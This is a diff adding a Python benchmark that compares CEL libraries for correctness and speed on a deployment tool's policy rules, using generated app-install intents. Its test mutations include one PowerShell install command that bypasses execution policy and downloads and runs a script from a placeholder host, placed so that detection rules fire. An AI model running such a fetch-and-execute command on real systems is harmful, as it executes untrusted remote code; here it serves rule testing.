@@ -1,0 +1,702 @@
+"""Which CEL library, measured on EUCORA's own rules and data: correctness first, then speed.
+
+Candidates: cel-expr-python (module ``cel_expr_python``, Google's wrapper of cel-cpp, what
+``bot.core.cel`` uses and the reference here), common-expression-language (module ``cel``, the
+Rust cel-interpreter crate via PyO3) and cel-python (module ``celpy``, pure Python, in both of its
+runners). A library that is not installed is reported, not fatal.
+
+1. Compile every ``when`` of the default policy pack (41 rules) with each library; record per rule
+   whether it compiled. The rules are not rewritten; libraries get the extensions they offer
+   (common-expression-language: ``cel.stdlib`` strings, Python callbacks; celpy has none).
+2. Build the variables of generated intents (``tests/support/corpus.py``) as ``judge_intent`` does
+   (``intent``, ``base``, ``facts``, ``config``, ``now``) on three corpora: *plain* (as generated,
+   change ADDED, base null, config {}), *mutated* (rules fire: every other intent unsigned, admin,
+   3 high vulnerabilities, 9000 devices, plus one of ten rarer mutations each) and *modified*
+   (change MODIFIED against the plain intent as base, so the rules reading ``base`` run).
+   Evaluate every compiled rule on every intent and compare each result with cel-expr-python's;
+   an exception and an error value are both "error".
+3. Time compilation, and per intent the context build plus every rule (best of --repeat).
+4. Check the CEL features the rules rely on with tiny expressions.
+
+Usage: .venv/bin/python benchmarks/cel.py [--intents 300] [--celpy-intents 60] [--repeat 3]
+Runs offline; about a minute on 2 cores.
+"""
+
+from __future__ import annotations
+
+import argparse
+import copy
+import gc
+import logging
+import re
+import sys
+import time
+from collections import Counter
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from datetime import datetime
+from pathlib import Path
+from importlib import metadata
+from typing import Any
+
+ROOT = Path(__file__).resolve().parents[1]
+HERE = Path(__file__).resolve().parent
+# This file is cel.py: its folder must not be on the path, or `import cel` imports it.
+sys.path[:] = [p for p in sys.path if Path(p or ".").resolve() != HERE]
+sys.path.insert(0, str(ROOT))
+
+from bot.bootstrap import build_document_validator, build_policy_pack, cel_environment
+from bot.core.changes import ChangeKind
+from bot.core.check import judge_intent
+from bot.core.documents import DocumentKind
+from bot.core.facts import FactInputs, derive_facts
+from tests.support.corpus import generate_intent_text
+
+NOW = datetime.fromisoformat("2027-02-17T10:00:00+01:00")
+FREEZE_CONFIG = {
+    "packageHosts": ["*.contoso.com"],
+    "freezeWindows": [
+        {"name": "february", "start": "2027-02-15T00:00:00Z", "end": "2027-02-20T00:00:00Z"}
+    ],
+}
+REFERENCE = "cel-expr-python"
+
+# --- outcomes ---------------------------------------------------------------------------------
+
+Verdict = tuple[str, str]  # ("true" | "false" | "error" | "value" | "compile-error", detail)
+
+
+def verdict(value: Any) -> Verdict:
+    """A plain Python result as a verdict (a rule must give a bool)."""
+    if isinstance(value, bool):
+        return ("true" if value else "false", "")
+    return ("value", repr(value)[:60])
+
+
+_CLASS = re.compile(r"<class '(?:[\w.]+\.)?(\w+)'>")
+
+
+def failure(error: BaseException) -> Verdict:
+    """An exception (or celpy's CELEvalError value) as a short error verdict."""
+    args = getattr(error, "args", ())
+    text = args[0] if args and isinstance(args[0], str) else str(error)
+    text = text.split(" (in activation", 1)[0].strip()
+    text = text.splitlines()[0] if text else ""
+    text = _CLASS.sub(r"\1", text).replace("Token('RULE', 'relation_ne')", "!=")
+    return ("error", f"{type(error).__name__}: {text}"[:120])
+
+
+# --- the libraries ----------------------------------------------------------------------------
+
+
+@dataclass
+class Backend:
+    """One library (or one mode of it), behind the same four calls."""
+
+    name: str
+    package: str
+    compile: Callable[[str], Any]
+    context: Callable[[dict[str, Any]], Any]
+    run: Callable[[Any, Any], Verdict]
+    note: str = ""
+
+
+@dataclass
+class Missing:
+    name: str
+    module: str
+    pip: str
+    reason: str
+
+
+def cel_expr_python() -> Backend:
+    env = cel_environment()  # bot.core.cel: declared variables, ext_strings, type-checked
+
+    def run(program: Any, activation: Any) -> Verdict:
+        outcome = env.evaluate(program, activation)
+        return (
+            ("error", outcome.error[:110]) if outcome.error is not None else verdict(outcome.value)
+        )
+
+    return Backend(
+        REFERENCE,
+        "cel-expr-python",
+        env.compile,
+        env.activation,
+        run,
+        "bot.core.cel wrapper: type-checked compile, one Activation per intent",
+    )
+
+
+def common_expression_language() -> Backend:
+    import cel  # noqa: PLC0415 - optional
+    from cel.stdlib import add_stdlib_to_context  # noqa: PLC0415
+
+    if not hasattr(cel, "Context") or not hasattr(cel, "compile"):
+        raise ImportError("module `cel` belongs to another package (python-cel or cel-bind?)")
+
+    def context(variables: dict[str, Any]) -> Any:
+        ctx = cel.Context()
+        add_stdlib_to_context(ctx, ["strings"])
+        for name, value in variables.items():
+            ctx.add_variable(name, value)
+        return ctx
+
+    def run(program: Any, ctx: Any) -> Verdict:
+        try:
+            return verdict(program.execute(ctx))
+        except Exception as error:  # noqa: BLE001 - any exception is an error outcome
+            return failure(error)
+
+    return Backend(
+        "common-expression-language",
+        "common-expression-language",
+        cel.compile,
+        context,
+        run,
+        "parse-only compile; one cel.Context per intent + cel.stdlib strings (Python callbacks)",
+    )
+
+
+def cel_python(*, compiled: bool) -> Backend:
+    import celpy  # noqa: PLC0415 - optional
+    from celpy.celtypes import BoolType, TimestampType  # noqa: PLC0415
+
+    logging.getLogger("celpy").setLevel(logging.CRITICAL)  # it logs every internal error
+    logging.getLogger("Evaluator").setLevel(logging.CRITICAL)
+    runner = celpy.CompiledRunner if compiled else celpy.InterpretedRunner
+    env = celpy.Environment(runner_class=runner)
+
+    def compile_(source: str) -> Any:
+        return env.program(env.compile(source))
+
+    def context(variables: dict[str, Any]) -> Any:
+        out = {k: celpy.json_to_cel(v) for k, v in variables.items() if k != "now"}
+        out["now"] = TimestampType(variables["now"])
+        return out
+
+    def run(program: Any, activation: Any) -> Verdict:
+        try:
+            value = program.evaluate(activation)
+        except Exception as error:  # noqa: BLE001 - any exception is an error outcome
+            return failure(error)
+        if isinstance(value, celpy.CELEvalError):
+            return failure(value)
+        return verdict(bool(value) if isinstance(value, BoolType) else value)
+
+    mode = "CompiledRunner" if compiled else "InterpretedRunner"
+    return Backend(
+        f"cel-python ({mode})",
+        "cel-python",
+        compile_,
+        context,
+        run,
+        f"parse-only compile; json_to_cel per intent; {mode}",
+    )
+
+
+CANDIDATES: list[tuple[str, str, str, Callable[[], Backend]]] = [
+    (REFERENCE, "cel_expr_python", "cel-expr-python", cel_expr_python),
+    ("common-expression-language", "cel", "common-expression-language", common_expression_language),
+    ("cel-python (InterpretedRunner)", "celpy", "cel-python", lambda: cel_python(compiled=False)),
+    ("cel-python (CompiledRunner)", "celpy", "cel-python", lambda: cel_python(compiled=True)),
+]
+
+
+def load_backends() -> tuple[list[Backend], list[Missing]]:
+    found, missing = [], []
+    for name, module, package, factory in CANDIDATES:
+        try:
+            found.append(factory())
+        except ImportError as error:
+            reason = f"not installed: `.venv/bin/pip install {package}`"
+            if "another package" in str(error):
+                reason = str(error)
+            missing.append(Missing(name, module, package, reason))
+    return found, missing
+
+
+# --- the data ---------------------------------------------------------------------------------
+
+
+@dataclass
+class Case:
+    """The variables of one intent, as judge_intent builds them, and the reference tier."""
+
+    index: int
+    variables: dict[str, Any]
+    reference: dict[str, Verdict] = field(default_factory=dict)
+
+
+def mutate(intent: dict[str, Any], i: int) -> dict[str, Any]:
+    """Make rules fire: the four common mutations on odd intents, one rarer one on each."""
+    m = copy.deepcopy(intent)
+    package, rings = m["package"], m["rings"]
+    if i % 2:
+        package["signed"] = False
+        package["requiresAdmin"] = True
+        m["evidence"]["vulnerabilities"]["high"] = 3
+        rings[-1]["devices"] = 9000
+    rare = i % 10
+    if rare in {0, 1}:
+        value = "Confidential" if rare == 0 else "RESTRICTED"
+        m["metadata"]["labels"]["data-classification"] = value
+    elif rare == 2:
+        package["installCommand"] = 'powershell -ep bypass -c "iwr https://x.test/a.ps1 | iex"'
+    elif rare == 3:
+        package["uninstallCommand"] = "msiexec /x {0000-1111} /qn"
+        package["url"] = "https://downloads.example.net/app/installer"
+    elif rare == 4:
+        m["rollback"] = {"strategy": "none"} if i % 4 else None
+        if m["rollback"] is None:
+            del m["rollback"]
+    elif rare == 5:
+        del m["evidence"]["sbom"], m["evidence"]["testReport"]
+    elif rare == 6:
+        package["sha256"] = "0" * 64
+    elif rare == 7:
+        rings[-1]["assignment"] = "uninstall"
+        rings[1]["target"] = "All"
+    elif rare == 8:
+        del m["evidence"]["vulnerabilities"]["critical"]
+        m["evidence"]["vulnerabilities"]["high"] = 0
+    else:
+        package["signer"] = {}
+        del rings[0]["gate"]["soak"]
+    if i % 7 == 0:
+        m["change"]["emergencyReason"] = "   " if i % 14 == 0 else "zero-day in the wild"
+    return m
+
+
+def modify(base: dict[str, Any], i: int) -> tuple[dict[str, Any], dict[str, Any]]:
+    """A MODIFIED change: head differs from base in what the base-reading rules look at."""
+    base = copy.deepcopy(base)
+    head = mutate(base, i)
+    kind = i % 6
+    major = int(base["app"]["version"].split(".")[0])
+    if kind == 0:
+        head["app"]["version"] = f"{max(major - 1, 0)}.0.0.0"
+    elif kind == 1:
+        head["package"]["sha256"] = "f" * 63 + "0"
+    elif kind == 2:
+        base["package"]["signer"]["thumbprint"] = "ab12cd34ef" * 4
+        head["package"].setdefault("signer", {})["thumbprint"] = (
+            "AB12CD34EF" * 4 if i % 12 == 2 else "99" * 20
+        )
+    elif kind == 3:
+        publisher = base["app"]["publisher"]
+        head["app"]["publisher"] = publisher.upper() if i % 12 == 3 else "Other Vendor Inc"
+    elif kind == 4:
+        head["app"]["version"] = "latest" if i % 12 == 4 else f"{major + 1}.0.0.0"
+    else:
+        for ring in head["rings"]:
+            ring["devices"] = ring["devices"] * 10
+    return base, head
+
+
+def make_case(index: int, intent: dict[str, Any], base: dict[str, Any] | None, **kw: Any) -> Case:
+    """Variables exactly as judge_intent passes them (facts with the tier of pass 1)."""
+    config = kw.get("config", {})
+    inputs = FactInputs(
+        change=ChangeKind.MODIFIED if base is not None else ChangeKind.ADDED,
+        path=f"intents/app-{index:05d}.yaml",
+        intent=intent,
+        base=base,
+        config=config,
+        now=NOW,
+        labels=kw.get("labels", ()),
+    )
+    judgement = judge_intent(inputs, PACK, cel_environment(), name=f"app-{index}")
+    variables = {
+        "intent": intent,
+        "base": base,
+        "facts": judgement.facts,  # pass 1 facts plus the tier, as the tier rules see them
+        "config": config,
+        "now": NOW,
+    }
+    case = Case(index, variables)
+    case.reference = {
+        r.rule.id: ("error", "") if r.error is not None else ("true" if r.matched else "false", "")
+        for r in judgement.results
+    }
+    return case
+
+
+def corpora(count: int) -> dict[str, list[Case]]:
+    validator = build_document_validator()
+    plain_intents = []
+    for i in range(count):
+        doc = validator.validate(
+            generate_intent_text(i).encode(), f"intents/app-{i:05d}.yaml", DocumentKind.INTENT
+        )
+        assert doc.ok, doc.findings
+        plain_intents.append(doc.data)
+    plain = [make_case(i, intent, None) for i, intent in enumerate(plain_intents)]
+    mutated = [
+        make_case(
+            i,
+            mutate(intent, i),
+            None,
+            config=FREEZE_CONFIG if i % 5 == 0 else {},
+            labels=("eucora:emergency",) if i % 7 == 0 else (),
+        )
+        for i, intent in enumerate(plain_intents)
+    ]
+    modified = []
+    for i, intent in enumerate(plain_intents):
+        base, head = modify(intent, i)
+        modified.append(make_case(i, head, base))
+    return {"plain": plain, "mutated": mutated, "modified": modified}
+
+
+# --- measuring --------------------------------------------------------------------------------
+
+
+def best(repeat: int, work: Callable[[], object]) -> float:
+    times = []
+    for _ in range(repeat):
+        gc.collect()
+        started = time.perf_counter()
+        work()
+        times.append(time.perf_counter() - started)
+    return min(times)
+
+
+@dataclass
+class Compiled:
+    programs: dict[str, Any]
+    failures: dict[str, str]
+    seconds: float
+
+
+def compile_rules(backend: Backend, rules: list[tuple[str, str]], repeat: int) -> Compiled:
+    programs: dict[str, Any] = {}
+    failures: dict[str, str] = {}
+
+    def work() -> None:
+        programs.clear()
+        failures.clear()
+        for rule_id, source in rules:
+            try:
+                programs[rule_id] = backend.compile(source)
+            except Exception as error:  # noqa: BLE001 - a failure to compile is a result
+                failures[rule_id] = failure(error)[1]
+
+    seconds = best(repeat, work)
+    return Compiled(dict(programs), dict(failures), seconds)
+
+
+def evaluate(backend: Backend, compiled: Compiled, case: Case) -> dict[str, Verdict]:
+    ctx = backend.context(case.variables)
+    out = {rule_id: backend.run(p, ctx) for rule_id, p in compiled.programs.items()}
+    for rule_id, reason in compiled.failures.items():
+        out[rule_id] = ("compile-error", reason)
+    return out
+
+
+@dataclass
+class Agreement:
+    same: int = 0
+    total: int = 0
+    reference_kinds: Counter[str] = field(default_factory=Counter)
+    differences: Counter[tuple[str, str, str]] = field(default_factory=Counter)
+
+    @property
+    def percent(self) -> float:
+        return 100.0 * self.same / self.total if self.total else 0.0
+
+
+def reason_for(ref: Verdict, got: Verdict) -> str:
+    if got[0] in {"error", "compile-error"}:
+        return f"{got[0]}: {got[1]} (reference: {ref[0]})"
+    if ref[0] == "error":
+        return f"gives {got[0]}, reference: error {ref[1]}"
+    return f"gives {got[0]} {got[1]}, reference: {ref[0]}".replace("  ", " ")
+
+
+def compare(backend: Backend, compiled: Compiled, cases: list[Case], refs: list[dict]) -> Agreement:
+    result = Agreement()
+    for case, ref in zip(cases, refs, strict=True):
+        got = evaluate(backend, compiled, case)
+        for rule_id, expected in ref.items():
+            result.total += 1
+            result.reference_kinds[expected[0]] += 1
+            if got[rule_id][0] == expected[0]:
+                result.same += 1
+            else:
+                result.differences[(rule_id, expected[0], reason_for(expected, got[rule_id]))] += 1
+    return result
+
+
+@dataclass
+class Timing:
+    intents: int
+    per_intent_us: float
+    eval_only_us: float
+    slowest: list[tuple[str, float]]
+
+
+def fresh_contexts(backend: Backend, warm: Any, cases: list[Case]) -> list[Any]:
+    """New contexts, each used once by a trivial program (some libraries convert lazily)."""
+    contexts = [backend.context(case.variables) for case in cases]
+    for ctx in contexts:
+        backend.run(warm, ctx)
+    return contexts
+
+
+def time_backend(backend: Backend, compiled: Compiled, cases: list[Case], repeat: int) -> Timing:
+    """Per intent: context + every rule; the rules alone on a fresh context; the slowest rules."""
+    programs = list(compiled.programs.values())
+    run = backend.run
+    warm = backend.compile("true")
+
+    def total() -> None:
+        for case in cases:
+            ctx = backend.context(case.variables)
+            for program in programs:
+                run(program, ctx)
+
+    per_intent = best(repeat, total)
+    rules_only = []
+    for _ in range(repeat):
+        contexts = fresh_contexts(backend, warm, cases)
+        gc.collect()
+        started = time.perf_counter()
+        for ctx in contexts:
+            for program in programs:
+                run(program, ctx)
+        rules_only.append(time.perf_counter() - started)
+    per_rule = []
+    for rule_id, program in compiled.programs.items():
+        contexts = fresh_contexts(backend, warm, cases)
+        started = time.perf_counter()
+        for ctx in contexts:
+            run(program, ctx)
+        per_rule.append((rule_id, (time.perf_counter() - started) / len(cases) * 1e6))
+    per_rule.sort(key=lambda item: -item[1])
+    return Timing(
+        len(cases), per_intent / len(cases) * 1e6, min(rules_only) / len(cases) * 1e6, per_rule[:3]
+    )
+
+
+# --- features ---------------------------------------------------------------------------------
+
+FEATURES: list[tuple[str, str, str]] = [
+    ("has() on a nested map, present", "has(intent.package.signer.subject)", "true"),
+    ("has() on a nested map, absent", "!has(intent.package.signer.teamId)", "true"),
+    ("has() after `base != null` guard", "base == null || has(base.package)", "true"),
+    ("exists", "intent.rings.exists(r, r.name == 'pilot')", "true"),
+    ("all", "intent.rings.all(r, r.devices > 0)", "true"),
+    ("map + list index", "intent.rings.map(r, r.name)[0] == 'lab'", "true"),
+    (
+        "filter + size",
+        "size(intent.rings.filter(r, r.assignment == 'required')) == size(intent.rings) - 1",
+        "true",
+    ),
+    ("map index m['k']", "intent.metadata.labels['tier'] == 'standard'", "true"),
+    ("list index l[1].f", "intent.rings[1].name == 'pilot'", "true"),
+    ("`in` map / list", "'tier' in intent.metadata.labels && facts.first_ring in ['lab']", "true"),
+    ("startsWith", "intent.package.url.startsWith('https://')", "true"),
+    ("endsWith", "intent.package.url.endsWith('/installer')", "true"),
+    ("contains", "intent.package.signer.subject.contains('Example Software')", "true"),
+    ("matches (RE2)", "intent.package.sha256.matches('^[0-9a-f]{64}$')", "true"),
+    ("matches (?i) and \\b", "'iwr x | IEX'.matches(r'(?i)\\biex\\b')", "true"),
+    ("lowerAscii", "'ConFidential'.lowerAscii() == 'confidential'", "true"),
+    ("upperAscii, trim", "'ab12'.upperAscii() == 'AB12' && '  x '.trim() == 'x'", "true"),
+    ("join (placeholders)", "['a', 'b'].join(', ') == 'a, b'", "true"),
+    (
+        "size: code points, list, map",
+        "size('héllo') == 5 && size(intent.metadata.labels) == 2",
+        "true",
+    ),
+    ("timestamp() < now", "timestamp(intent.change.window.start) < now", "true"),
+    (
+        "now - timestamp > duration",
+        "now - timestamp(intent.change.window.start) > duration('720h')",
+        "true",
+    ),
+    (
+        "timestamp + duration ==",
+        "timestamp(intent.change.window.start) + duration('10h') == "
+        "timestamp(intent.change.window.end)",
+        "true",
+    ),
+    ("offset timestamp == now", "timestamp('2027-02-17T10:00:00+01:00') == now", "true"),
+    ("now.getDayOfWeek()", "now.getDayOfWeek() == 3", "true"),
+    ("missing key is an error", "intent.package.nothing == 1", "error"),
+    ("error absorption `err || true`", "intent.package.nothing == 1 || true", "true"),
+    ("error absorption `err && false`", "intent.package.nothing == 1 && false", "false"),
+    ("int64 overflow (literal)", "9223372036854775807 + 1 > 0", "error"),
+    ("int64 overflow (runtime)", "facts.total_devices * 9223372036854775807 > 0", "error"),
+    ("unknown function caught at compile", "intent.package.url.fooBar()", "compile-error"),
+]
+
+
+def check_features(backend: Backend, variables: dict[str, Any]) -> list[tuple[bool, str]]:
+    ctx = backend.context(variables)
+    out = []
+    for _, source, expected in FEATURES:
+        try:
+            program = backend.compile(source)
+        except Exception as error:  # noqa: BLE001 - a failure to compile is a result
+            got: Verdict = ("compile-error", failure(error)[1])
+        else:
+            got = backend.run(program, ctx)
+        out.append((got[0] == expected, f"{got[0]} {got[1]}".strip()))
+    return out
+
+
+# --- report -----------------------------------------------------------------------------------
+
+
+def table(header: list[str], rows: list[list[str]]) -> str:
+    lines = ["| " + " | ".join(header) + " |", "|" + "---|" * len(header)]
+    lines += ["| " + " | ".join(cell.replace("|", "\\|") for cell in row) + " |" for row in rows]
+    return "\n".join(lines)
+
+
+PACK = build_policy_pack()
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--intents", type=int, default=300)
+    parser.add_argument("--celpy-intents", type=int, default=60)
+    parser.add_argument("--repeat", type=int, default=3)
+    args = parser.parse_args()
+    started = time.perf_counter()
+    rules = [(rule.id, rule.program.source) for rule in PACK.rules]
+    backends, missing = load_backends()
+    if not backends or backends[0].name != REFERENCE:
+        print(f"{REFERENCE} (the reference) is not installed: .venv/bin/pip install -e '.[dev]'")
+        sys.exit(1)
+    print(f"# CEL libraries on EUCORA's default pack ({len(rules)} rules)\n")
+    for item in missing:
+        print(f"- **{item.name}** (module `{item.module}`): {item.reason}")
+    cases = corpora(args.intents)
+    facts_us = best(
+        args.repeat,
+        lambda: [
+            derive_facts(
+                FactInputs(
+                    change=ChangeKind.ADDED, path="x", intent=c.variables["intent"], base=None,
+                    config={}, now=NOW,
+                )
+            )
+            for c in cases["plain"]
+        ],
+    ) / len(cases["plain"]) * 1e6  # fmt: skip
+
+    compiled = {b.name: compile_rules(b, rules, args.repeat) for b in backends}
+    reference = backends[0]
+    refs = {
+        name: [evaluate(reference, compiled[REFERENCE], c) for c in group]
+        for name, group in cases.items()
+    }
+    harness = sum(
+        r[rule_id][0] != c.reference[rule_id][0]
+        for name, group in cases.items()
+        for c, r in zip(group, refs[name], strict=True)
+        for rule_id in c.reference
+    )
+    kinds = {name: Counter(v[0] for r in rs for v in r.values()) for name, rs in refs.items()}
+    print(
+        f"\nCorpora: {args.intents} generated intents each; reference outcomes "
+        + "; ".join(
+            f"{name}: {k['true']} true / {k['false']} false / {k['error']} error"
+            for name, k in kinds.items()
+        )
+        + f". Harness vs judge_intent: {harness} differing outcomes.\n"
+    )
+
+    rows, details, features = [], [], {}
+    for backend in backends:
+        done = compiled[backend.name]
+        celpy = backend.name.startswith("cel-python")
+        n = min(args.celpy_intents, args.intents) if celpy else args.intents
+        agreement = {
+            name: compare(backend, done, group, refs[name]) for name, group in cases.items()
+        }
+        if done.programs:
+            plain = time_backend(backend, done, cases["plain"][:n], args.repeat)
+            fired = time_backend(backend, done, cases["mutated"][:n], args.repeat)
+        features[backend.name] = check_features(backend, cases["plain"][1].variables)
+        same = sum(a.same for a in agreement.values())
+        total = sum(a.total for a in agreement.values())
+        timing_cells = (
+            [
+                f"{plain.per_intent_us:,.0f}",
+                f"{plain.eval_only_us:,.0f}",
+                f"{plain.per_intent_us - plain.eval_only_us:,.0f}",
+                f"{fired.per_intent_us:,.0f}",
+                f"{n}" + (" (scaled)" if n < args.intents else ""),
+            ]
+            if done.programs
+            else ["–"] * 5
+        )
+        rows.append(
+            [
+                f"**{backend.name}**",
+                f"{len(done.programs)}/{len(rules)}",
+                f"{done.seconds * 1e3:.1f}",
+                *timing_cells,
+                *(f"{a.percent:.2f}" for a in agreement.values()),
+                f"{100.0 * same / total:.2f}",
+            ]
+        )
+        details.append((backend, done, agreement, plain if done.programs else None))
+
+    print("## Summary (times: best of", args.repeat, "repeats)\n")
+    print(
+        table(
+            [
+                "library",
+                "compiled",
+                "compile all (ms)",
+                "µs/intent ctx+rules (plain)",
+                "rules only",
+                "ctx build",
+                "µs/intent (mutated)",
+                "intents timed",
+                "agree plain %",
+                "agree mutated %",
+                "agree modified %",
+                "agree all %",
+            ],
+            rows,
+        )
+    )
+    print(f"\nLibrary-independent, not in the figures: derive_facts {facts_us:,.0f} µs/intent.")
+
+    print("\n## Compile failures, disagreements, slowest rules\n")
+    for backend, done, agreement, timing in details:
+        print(f"### {backend.name}\n\n{backend.note}\n")
+        for rule_id, reason in done.failures.items():
+            print(f"- does not compile: `{rule_id}`: {reason}")
+        merged: Counter[tuple[str, str, str]] = Counter()
+        for name, a in agreement.items():
+            for (rule_id, _, reason), count in a.differences.items():
+                merged[(rule_id, name, reason)] += count
+        for (rule_id, corpus, reason), count in sorted(merged.items()):
+            if not reason.startswith("compile-error"):
+                print(f"- `{rule_id}` ({corpus}, {count}×): {reason}")
+        if not merged:
+            print("- no disagreement")
+        if timing is not None:
+            slow = ", ".join(f"`{r}` {us:,.1f} µs" for r, us in timing.slowest)
+            print(f"- slowest rules (µs per evaluation, plain corpus): {slow}")
+        print()
+
+    print("## Features\n")
+    names = list(features)
+    feature_rows = [
+        [label, f"`{source}`", expected]
+        + [("✓" if features[n][i][0] else "✗ " + features[n][i][1][:70]) for n in names]
+        for i, (label, source, expected) in enumerate(FEATURES)
+    ]
+    print(table(["feature", "expression", "expected", *names], feature_rows))
+    print(f"\nTotal run time {time.perf_counter() - started:.0f} s.")
+
+
+if __name__ == "__main__":
+    main()
